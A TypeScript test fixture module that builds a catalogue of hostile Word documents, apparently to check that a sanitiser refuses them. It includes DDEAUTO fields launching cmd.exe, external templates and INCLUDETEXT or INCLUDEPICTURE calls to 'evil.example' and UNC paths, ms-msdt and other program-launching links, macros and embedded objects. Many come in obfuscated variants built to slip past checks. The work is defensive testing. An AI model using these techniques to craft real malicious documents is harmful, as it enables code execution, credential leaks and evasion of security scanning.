import { withChart } from './honest-documents.ts';
import {
  code,
  contentTypesPart,
  external,
  field,
  inRun,
  mark,
  override,
  relationship,
  relationshipsPart,
  run,
  strict,
  typeOf,
  wordArchive,
  wordDocument,
  wordPart,
  wordType,
} from './word-document.ts';

const template = (target: string, mode = external) => relationshipsPart(relationship('attachedTemplate', target, mode));
const remote = 'https://evil.example/x.dotm';
/** A document whose settings have these relationships. */
const withSettings = (relationships: string | Uint8Array, name = 'word/_rels/settings.xml.rels') =>
  wordDocument({ parts: { 'word/settings.xml': wordPart('settings', ''), [name]: relationships } });
const related = (type: string, target: string, mode = external) =>
  wordDocument({ relationships: relationship(type, target, mode) });
const withBody = (...runs: string[]) => wordDocument({ body: `<w:p>${runs.join('')}</w:p>` });
const withField = (...codes: string[]) => withBody(field(codes.map((text) => code(text)).join('')));
const withPart = (name: string, content: string | Uint8Array, type?: string) =>
  wordDocument({ types: type && override(`/${name}`, type), parts: { [name]: content } });
const dde = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"';
const ddeField = `<w:p>${field(code(dde))}</w:p>`;
const utf16 = (text: string, bigEndian = false) => {
  const bytes = Buffer.from(`\ufeff${text.replace('UTF-8', 'UTF-16')}`, 'utf16le');
  return bigEndian ? bytes.swap16() : bytes;
};

/** Links that start a program or script, in schemes of many kinds. */
const programLinks = [
  'ms-msdt:/id x',
  'search-ms:query=x',
  'search:query=x',
  'ms-word:ofe|u|https://evil.example/x.docm',
  'ms-excel:x',
  'onenote:x',
  'jnlp:https://evil.example/x',
  'javascript:alert(1)',
  'vbscript:x',
  'data:text/html,x',
  'shell:startup',
  'mhtml:https://evil.example/x',
  'telnet://host',
  'steam://run/1',
  'x-unknown:x',
  'com.example.app:x',
];
const vmlShapes = ['shape', 'group', 'rect', 'roundrect', 'oval', 'line', 'polyline', 'arc', 'curve', 'image'];

/** Templates and other content that is fetched, written so that a check could overlook it. */
const fetched: [name: string, bytes: Buffer][] = [
  ['an external template', withSettings(template(remote))],
  ['`>` in an attribute value', withSettings(template(remote).replace('<Relationship Id', '<Relationship x=">" Id'))],
  ['`.RELS` in capitals', withSettings(template(remote), 'word/_rels/settings.xml.RELS')],
  ['a folder in capitals', withSettings(template(remote), 'WORD/_RELS/Settings.xml.Rels')],
  ['a percent-encoded part name', withSettings(template(remote), 'word/_rels/settings.xml%2Erels')],
  ['a backslash in a part name', withSettings(template(remote), 'word\\_rels\\settings.xml.rels')],
  ['single quotes', withSettings(template(remote).replace(/"/g, "'"))],
  ['character references', withSettings(template('&#x68;ttps:&#47;/evil.example').replace('External', '&#69;xternal'))],
  [
    'a namespace prefix',
    withSettings(
      template(remote)
        .replace(/<(\/?)R/g, '<$1p:R')
        .replace('xmlns=', 'xmlns:p='),
    ),
  ],
  [
    'line breaks in a tag',
    withSettings(
      template(remote)
        .replace(/ (T|I)/g, '\r\n\t$1')
        .replace('/>', '\n/>'),
    ),
  ],
  ['UTF-16', withSettings(utf16(template(remote)))],
  ['UTF-16 with big ends', withSettings(utf16(template(remote), true))],
  ['the strict format', related(`${strict}/attachedTemplate`, remote)],
  ['another edition of the format', related('http://schemas.example/2099/attachedTemplate', remote)],
  ['the mode in another case', withSettings(template(remote, ' TargetMode="EXTERNAL"'))],
  ['no mode', withSettings(template(remote, ''))],
  ['a template in the package', withSettings(template('template.dotm', ''))],
  ['relationships of another part', related('attachedTemplate', remote)],
  ['a template on a network', withSettings(template('file://host/share/x.dotm'))],
  ['a template on a network, in a local form', withSettings(template('file:///\\\\host\\share\\x.dotm'))],
  ['a template on a network, with many slashes', withSettings(template('file://///host/share/x.dotm'))],
  ['a template on a network, percent-encoded', withSettings(template('file:%5c%5chost/share/x.dotm'))],
  ['a template on a network, as a path', withSettings(template('\\\\host\\share\\x.dotm'))],
  ['a template on a network, as a path with slashes', withSettings(template('//host/share/x.dotm'))],
  ['a template on a computer named by its address', withSettings(template('file:///203.0.113.1/share/x.dotm'))],
  ['a template by WebDAV', withSettings(template('file:///host@SSL/share/x.dotm'))],
  ['a template at a relative place', withSettings(template('x.dotm'))],
  ['a picture on a network', related('image', 'file://host/share/logo.png')],
  ['a picture on a network, as a path', related('image', '\\\\host\\share\\logo.png')],
  ['a picture with a line break in its scheme', related('image', 'fi&#10;le://host/share/logo.png')],
  ['a picture with a scheme of programs', related('image', 'ms-word:x')],
  ['a picture in an archive', related('image', 'mhtml:https://evil.example/x!y')],
  ['an image in VML without relationship', withBody(inRun('<w:pict><v:imagedata src="\\\\host\\x.png"/></w:pict>'))],
  ['a fill in VML without relationship', withBody(inRun('<w:pict><v:fill o:althref="file://host/x"/></w:pict>'))],
  ['a frame', related('frame', 'https://evil.example/')],
  ['a document in parts', related('subDocument', 'file:///C:\\x.docx')],
  ['an imported document', related('aFChunk', 'https://evil.example/')],
  ['an object from outside', related('oleObject', 'mhtml:https://evil.example/x.html!x-usc:')],
  ['a video', related('video', 'https://evil.example/')],
  ['a stylesheet from outside', related('transform', 'https://evil.example/x.xsl')],
  ['an unknown relationship from outside', related('http://schemas.example/unknown', 'https://evil.example/')],
  ['the source of a mail merge', related('mailMergeSource', 'file:///C:\\x.xlsx')],
  [
    'the connection of a mail merge',
    withPart('word/settings.xml', wordPart('settings', '<w:mailMerge><w:connectString w:val="x"/></w:mailMerge>')),
  ],
  ['a link that runs a script', related('hyperlink', 'java&#9;script:alert(1)')],
  ...programLinks.map((target): (typeof fetched)[number] => [`a link to ${target}`, related('hyperlink', target)]),
  ['a link in the package that starts a program', related('hyperlink', 'onenote:x', '')],
  ['a link that starts a program, percent-encoded', related('hyperlink', 'ms%2Dmsdt%3A/id')],
  ['a link that starts a program, after an invisible character', related('hyperlink', '&#x200b;ms-msdt:/id')],
  ['a link that starts a program, after a prefix of Windows', related('hyperlink', 'url:ms-msdt:/id')],
  ['a link to a folder of Windows', related('hyperlink', '::{26EE0668-A00A-44D7-9371-BEB064C98683}')],
  ['a link to a page in the address', related('hyperlink', 'about:&lt;script>')],
  ...vmlShapes.map((shape): (typeof fetched)[number] => [
    `a link in VML that starts a program: ${shape}`,
    withBody(inRun(`<w:pict><v:${shape} href="ms-msdt:/id x"/></w:pict>`)),
  ]),
  ['a link in VML that runs a script', withBody(inRun('<w:pict><v:shape href="java&#10;script:x"/></w:pict>'))],
  [
    'a link in VML after one with a prefix',
    withBody(inRun('<w:pict><v:shape o:href="#top" href="search-ms:query=x"/></w:pict>')),
  ],
  [
    'an image in VML after one with a prefix',
    withBody(inRun('<w:pict><v:imagedata o:src="x.png" src="\\\\host\\x.png"/></w:pict>')),
  ],
];

/** Programs and embedded documents. */
const embedded: [name: string, bytes: Buffer][] = [
  ['macros', withPart('word/vbaProject.bin', 'x')],
  ['macros, in another case', withPart('word/VBAPROJECT.BIN', 'x')],
  ['macros, percent-encoded', withPart('word/vba%50roject.bin', 'x')],
  ['macros by type', withPart('word/a', 'x', 'application/vnd.ms-office.vbaProject')],
  ['macros by type, in another case', withPart('word/a', 'x', 'APPLICATION/vnd.ms-office.VBAPROJECT')],
  [
    'macros by extension',
    wordDocument({
      types: '<Default ContentType=\'application/vnd.ms-office.vbaProject\' x=">" Extension="PIC"/>',
      parts: { 'word/a.pic': 'x' },
    }),
  ],
  ['macros by relationship', related('http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'a', '')],
  ['a control', related('control', 'a.xml', '')],
  ['a control by name', withPart('word/activeX/activeX1.xml', '<a/>')],
  ['an embedded object', related('oleObject', 'a.bin', '')],
  ['an embedded workbook', related('package', 'embeddings/a.xlsx', '')],
  ['an embedded file without relationship', withPart('word/embeddings/a.docx', 'x')],
  [
    'an imported part',
    wordDocument({ relationships: relationship('aFChunk', 'a.docx'), parts: { 'word/a.docx': 'x' } }),
  ],
  ['a ribbon of its own', related('http://schemas.microsoft.com/office/2007/relationships/ui/extensibility', 'a', '')],
  ['an add-in', related('http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes', 'a', '')],
  ['an embedded workbook of a document among the charts', embeddedAmongCharts()],
  ['a workbook of a chart that is none', withChart(Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1', 'latin1'))],
  ['a program by its properties', withPart('docProps/custom.xml', '<P><property name="_AssemblyLocation"/></P>')],
  ['an online video', withBody(inRun('<x:webVideoPr xmlns:x="x" embeddedHtml="&lt;iframe&gt;"/>'))],
];

/** A document that lies among the charts and embeds a workbook. */
function embeddedAmongCharts(): Buffer {
  return wordArchive({
    '[Content_Types].xml': contentTypesPart(
      `<Default Extension="xlsx" ContentType="${typeOf('spreadsheetml.sheet')}"/>`,
      '/word/charts/document.xml',
    ),
    '_rels/.rels': relationshipsPart(relationship('officeDocument', 'word/charts/document.xml')),
    'word/charts/document.xml': wordPart('document', '<w:body/>'),
    'word/charts/_rels/document.xml.rels': relationshipsPart(relationship('package', '../embeddings/a.xlsx')),
    'word/embeddings/a.xlsx': wordArchive({ 'xl/workbook.xml': '<x/>' }),
  });
}

const alternative = (choice: string, fallback: string) =>
  `<mc:AlternateContent><mc:Choice Requires="x">${choice}</mc:Choice><mc:Fallback>${fallback}</mc:Fallback></mc:AlternateContent>`;

/** Fields that start a program or fetch something, written so that a check could overlook them. */
const fields: [name: string, bytes: Buffer][] = [
  ['DDE', withField(` ${dde} `)],
  ['DDE in another case', withField(' DdE x y')],
  ['DDE over runs', withField(' D', 'DE', 'AU', 'TO x y')],
  [
    'DDE over paragraphs',
    wordDocument({ body: `<w:p>${mark('begin')}${code('DDE')}</w:p><w:p>${code('x')}${mark('end')}</w:p>` }),
  ],
  ['DDE without separator', withBody(mark('begin'), code('DDE x'), mark('end'))],
  ['DDE that never ends', withBody(mark('begin'), code('DDE'))],
  ['DDE outside of any field', withBody(code('DDE x'))],
  ['DDE as a simple field', withBody('<w:fldSimple w:instr=" DDE x"/>')],
  ['DDE with character references', withField('&#68;&#x44;E x')],
  ['DDE in a CDATA section', withField('<![CDATA[DDE x]]>')],
  ['DDE with a comment inside', withField('D<!-- -->DE x')],
  ['DDE as a text', withBody(mark('begin'), run('DDE x'), mark('separate'), mark('end'))],
  ['DDE with an element inside', withField('D<w14:x/>DE x')],
  [
    'DDE partly deleted',
    withBody(
      mark('begin'),
      code('DD'),
      `<w:del>${inRun('<w:delInstrText>X</w:delInstrText>')}</w:del>`,
      code('E x'),
      mark('end'),
    ),
  ],
  [
    'DDE with a deleted separator',
    withBody(mark('begin'), code('D'), `<w:del>${mark('separate')}</w:del>`, code('DE x'), mark('end')),
  ],
  ['DDE with invisible characters', withField('D\u00adD\u200bE x')],
  ['DDE after quotation marks', withField(' "DDE" x')],
  ['DDE after a thousand blanks', withField(' '.repeat(100_000), 'DDE x')],
  [
    'DDE after another field',
    withField(' PAGE ', `</w:instrText></w:r>${mark('separate')}${mark('end')}${mark('begin')}<w:r><w:instrText>DDE`),
  ],
  ['DDE inside another field', withBody(field(code(' QUOTE ') + field(code(dde))))],
  [
    'DDE in the result of another field',
    withBody(mark('begin'), code(' QUOTE '), mark('separate'), field(code(dde)), mark('end')),
  ],
  ['the name from another field', withBody(field(field(code('QUOTE 68 68 69')) + code(' x y')))],
  ['the rest of the name from another field', withBody(field(code('D') + field(code('QUOTE 68 69')) + code(' x y')))],
  ['the name from alternatives', withBody(field(code('D') + alternative(code('X'), code('DE')) + code(' x')))],
  ['a field that begins in an alternative', withBody(alternative(mark('begin'), run('x')), code('D'), code('DE'))],
  ['a part of the name that Word ignores', withBody(field(code('D') + `<w14:x>${code('X')}</w14:x>` + code('DE x')))],
  ['a text with another prefix', withBody(field(`<x:r xmlns:x="w"><x:t>D</x:t></x:r>${code('DE x')}`))],
  [
    'the prefix of another vocabulary',
    withBody(field(`${code('D')}<w:r xmlns:w="x"><w:instrText>X</w:instrText></w:r>${code('DE')}`)),
  ],
  [
    'DDE in a text box',
    withBody(inRun(`<w:pict><v:textbox><w:txbxContent>${ddeField}</w:txbxContent></v:textbox></w:pict>`)),
  ],
  [
    'DDE around a text box',
    withBody(
      field(
        code('D') +
          inRun(`<w:pict><v:textbox><w:txbxContent><w:p>${mark('end')}</w:p></w:txbxContent></v:textbox></w:pict>`) +
          code('DE x'),
      ),
    ),
  ],
  ['DDE in a header', withPart('word/header1.xml', wordPart('hdr', ddeField), `${wordType}header+xml`)],
  ['DDE in a comment', withPart('word/comments.xml', wordPart('comments', `<w:comment>${ddeField}</w:comment>`))],
  ['DDE in footnotes', withPart('word/footnotes.xml', wordPart('footnotes', `<w:footnote>${ddeField}</w:footnote>`))],
  ['DDE in the glossary', withPart('word/glossary/document.xml', wordPart('glossaryDocument', ddeField))],
  ['DDE in a part with another name', withPart('word/picture.bin', wordPart('hdr', ddeField), `${wordType}header+xml`)],
  ['DDE in a part that claims to be a picture', withPart('word/picture.png', wordPart('hdr', ddeField))],
  [
    'DDE after too much in a picture',
    withPart('word/picture.png', `<a>${' '.repeat(33 * 1024 * 1024)}${ddeField}</a>`),
  ],
  ['DDE after much white space', withPart('word/a.bin', `${' '.repeat(1000)}<w:hdr>${ddeField}</w:hdr>`)],
  [
    'DDE without namespace prefix',
    withPart('word/header1.xml', wordPart('hdr', ddeField).replace(/(<\/?|\s)w:/g, '$1')),
  ],
  ['DDE in UTF-16', withPart('word/header1.xml', utf16(wordPart('hdr', ddeField)))],
  ['a linked object', withField(' LINK Excel.Sheet.12 "C:\\\\x.xlsx" "a" \\a')],
  ['an embedded object', withField(' EMBED Package ')],
  ['a database', withField(' DATABASE \\d "C:\\\\x.mdb" \\s "SELECT 1"')],
  ['commands for a printer', withField(' PRINT 27"E"')],
  ['a control', withField(' CONTROL Forms.HTML:Hidden.1 \\s')],
  ['a text on a network', withField(' INCLUDETEXT "\\\\\\\\host\\\\share\\\\x.docx" ')],
  ['a text on a network, with single backslashes', withField(' INCLUDETEXT \\\\host\\share\\x.docx')],
  ['a text on the web', withField(' INCLUDETEXT "https://evil.example/x" ')],
  ['a text named by another field', withBody(field(code(' INCLUDETEXT "') + field(code('QUOTE x')) + code('"')))],
  ['a picture on the web', withField(' INCLUDEPICTURE ', '\\d ', '"http://', 'evil.example/x"')],
  ['a picture on a network', withField(' INCLUDEPICTURE "file://host/x.png" \\* MERGEFORMAT')],
  ['a picture on a network, by the older name', withField(' IMPORT "\\\\\\\\host\\\\x.png"')],
  ['a referenced document on a network', withField(' RD "\\\\\\\\host\\\\x.docx"')],
  ['a text with a very long name', withField(` INCLUDETEXT "C:\\\\${'x'.repeat(5000)}"`)],
];

/** `HYPERLINK` with such a target. */
const links: [name: string, bytes: Buffer][] = [
  ...programLinks.flatMap((target): typeof links => [
    [`a link by a field to ${target}`, withField(` HYPERLINK "${target}" `)],
    [
      `a link by a simple field to ${target}`,
      withBody(`<w:fldSimple w:instr=" HYPERLINK &quot;${target}&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple>`),
    ],
  ]),
  ['a link over runs', withField(' HYPER', 'LINK "ms', '-msdt:', '/id x" ')],
  ['a link in another case', withField(' Hyperlink "MS-MSDT:/id"')],
  ['a link without quotation marks', withField(' HYPERLINK ms-msdt:/id')],
  ['a link in other quotation marks', withField(' HYPERLINK “ms-msdt:/id”')],
  ['a link in unknown quotation marks', withField(' HYPERLINK «ms-msdt:/id»')],
  ['a link without space', withField(' HYPERLINK"ms-msdt:/id"')],
  ['a link with a backslash in its scheme', withField(' HYPERLINK "ms-ms\\dt:/id"')],
  ['a link with an invisible character in its scheme', withField(' HYPERLINK "ms-\u200bmsdt:/id"')],
  ['a link after other switches', withField(' HYPERLINK \\n \\m \\t "_blank" "ms-msdt:/id"')],
  ['a link after its tip', withField(' HYPERLINK \\o "tip" "ms-msdt:/id"')],
  ['a link after its bookmark', withField(' HYPERLINK \\l a "ms-msdt:/id"')],
  ['a link after a tip without text', withField(' HYPERLINK \\o \\l "ms-msdt:/id"')],
  ['a link after a switch in quotation marks', withField(' HYPERLINK "\\o" "ms-msdt:/id"')],
  ['a link after a switch in capitals', withField(' HYPERLINK \\O "ms-msdt:/id"')],
  ['a link after a tip with other marks', withField(' HYPERLINK \\o "a” \\o "ms-msdt:/id"')],
  ['a link after a tip with a mark inside', withField(' HYPERLINK \\o "a\\" \\o "ms-msdt:/id"')],
  ['a link after a tab', withBody(field(code('HYPERLINK') + inRun('<w:tab/>') + code('ms-msdt:/id')))],
  ['a link after a tip and a tab', withBody(field(code('HYPERLINK \\o x') + inRun('<w:tab/>') + code('ms-msdt:/id')))],
  ['a link as a text', withBody(mark('begin'), run('HYPERLINK ms-msdt:/id'), mark('separate'), mark('end'))],
  [
    'a link in the result of another field',
    withBody(mark('begin'), code(' TOC '), mark('separate'), field(code(' HYPERLINK ms-msdt:/id')), mark('end')),
  ],
  ['a simple field after a code with another prefix', withBody('<w:fldSimple x:instr="PAGE" w:instr="DDE x"/>')],
  [
    'the scheme of a link from another field',
    withBody(field(code(' HYPERLINK "ms-') + field(code('QUOTE x')) + code('"'))),
  ],
  ['a link with a very long target', withField(` HYPERLINK "https://evil.example/${'x'.repeat(5000)}"`)],
  ['a text on the web, with a backslash in its scheme', withField(' INCLUDETEXT "ht\\tp://evil.example/x"')],
  [
    'a text on the web, after a tab',
    withBody(field(code('INCLUDETEXT') + inRun('<w:tab/>') + code('https://evil.example/x'))),
  ],
];

/** Documents that programs could read differently from each other, or that exceed a limit. */
const unclear: [name: string, bytes: Buffer][] = [
  ['the target of a link from another field', withBody(field(code(' HYPERLINK ') + field(code('QUOTE x'))))],
  ['two types of a mark', withBody(inRun('<w:fldChar w:fldCharType="begin" w14:fldCharType="end"/>'))],
  ['names that differ in case only', withPart('WORD/document.xml', wordPart('document', ''))],
  ['names that differ in encoding only', withPart('word/%64ocument.xml', wordPart('document', ''))],
  ['two lists of content types', withPart('[content_types].xml', contentTypesPart())],
  ['two types of a part', wordDocument({ types: override('/Word/Document.xml', 'text/plain') })],
  [
    'two main parts',
    wordDocument({
      parts: {
        '_rels/.rels': relationshipsPart(
          relationship('officeDocument', 'word/document.xml') + relationship(`${strict}/officeDocument`, 'a.xml'),
        ),
      },
    }),
  ],
  ['a part in pieces', withSettings(template(remote), 'word/_rels/settings.xml.rels/[0].last.piece')],
  ['relationships in a part with another name', withPart('word/a.xml', template(remote))],
  ['a base for targets', withSettings(template('x').replace('<Relationship ', '<Relationship xml:base="//host/" '))],
  ['a document type', withPart('word/header1.xml', `<!DOCTYPE x [<!ENTITY e "DDE">]>${wordPart('hdr', '').slice(56)}`)],
  ['an entity', withPart('word/header1.xml', '<a>&e;</a>')],
  ['an unclosed element', withPart('word/header1.xml', '<a><b></a>')],
  ['an attribute that stands twice', withSettings(template(remote).replace('Target=', 'Target="a" Target='))],
  ['UTF-7', withPart('word/header1.xml', '<?xml version="1.0" encoding="UTF-7"?><a>+ADw-w:instrText+AD4-DDE</a>')],
  ['UTF-16 without mark', withPart('word/header1.xml', utf16('<a/>').subarray(2))],
  ['XML 1.1', withPart('word/header1.xml', '<?xml version="1.1"?><a/>')],
  ['bytes that are no UTF-8', withPart('word/header1.xml', Buffer.from('<a>\xc0\xbc</a>', 'latin1'))],
  ['another name before its content', withOtherLocalName()],
  ['a part that is not XML', withPart('word/header1.xml', 'x')],
  ['elements 600 deep', withPart('word/header1.xml', '<a>'.repeat(600) + '</a>'.repeat(600))],
  [
    '1,001 attributes',
    withPart('word/header1.xml', `<a ${Array.from({ length: 1001 }, (_, i) => `a${i}=""`).join(' ')}/>`),
  ],
  ['an attribute of 3 MB', withPart('word/header1.xml', `<a b="${'x'.repeat(3_000_000)}"/>`)],
  ['an entity of 3 MB', withPart('word/header1.xml', `<a>&${'x'.repeat(3_000_000)}`)],
  ['101 fields inside each other', withBody((mark('begin') + code('QUOTE ')).repeat(101))],
  ['relationships of 5 MB', withSettings(relationshipsPart(relationship('a', 'x'.repeat(900_000), '').repeat(6)))],
  ['40,000 relationships', withSettings(relationshipsPart('<Relationship Type="a" Target="b"/>'.repeat(40_000)))],
];

/** A document in whose archive the directory and the header of a part have different names. */
function withOtherLocalName(): Buffer {
  const bytes = withPart('word/harmless.bin', 'x');
  bytes.write('word/settings', bytes.indexOf('word/harmless.bin'), 'latin1');
  return bytes;
}

/** Word documents that are refused, with the ways in which they could pass a check. */
export const hostileDocuments = { fetched, embedded, fields, links, unclear };
